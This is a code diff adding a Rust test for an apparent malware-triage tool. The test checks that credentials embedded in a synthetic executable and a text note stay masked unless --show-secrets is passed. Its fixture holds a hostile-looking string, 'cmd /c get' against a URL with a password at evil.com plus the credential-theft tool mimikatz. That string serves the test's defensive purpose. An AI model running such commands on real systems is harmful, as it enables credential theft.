@@ -211,3 +211,29 @@ fn no_disguise_and_no_edge_of_a_context_shows_a_secret() {
         }
     }
 }
+
+#[test]
+fn what_is_told_of_programs_and_by_rules_is_masked() {
+    let bed = Bed::new("secrets-strings");
+    let program = watchfire_testkit::executable::Pe {
+        resources: vec![(10, 1, b"cmd /c get http://user:hunter2@evil.com/ mimikatz".to_vec())],
+        ..watchfire_testkit::executable::Pe::default()
+    };
+    bed.write("tool.exe", program.build());
+    bed.write("note.txt", "http://user:hunter2@evil.com/\n");
+    bed.write("own.yar", "rule Own { strings: $a = /http:.{24}/ condition: $a }");
+    for line in [
+        &["triage", "-q", "--format", "json", "tool.exe"][..],
+        &["extract", "-q", "--format", "ndjson", "--yara", "own.yar", "note.txt"],
+    ] {
+        let ran = bed.run(line);
+        assert!(!ran.stdout.contains("hunter2"), "{ran:#?}");
+        let shown: Vec<&str> = line.iter().copied().chain(["--show-secrets"]).collect();
+        let shown = bed.run(&shown).stdout;
+        let told = [
+            "\"text\": \"cmd /c get http://user:hunter2@",
+            "\"excerpt\":\"http://user:hunter2@",
+        ];
+        assert!(told.iter().any(|told| shown.contains(told)), "{shown}");
+    }
+}
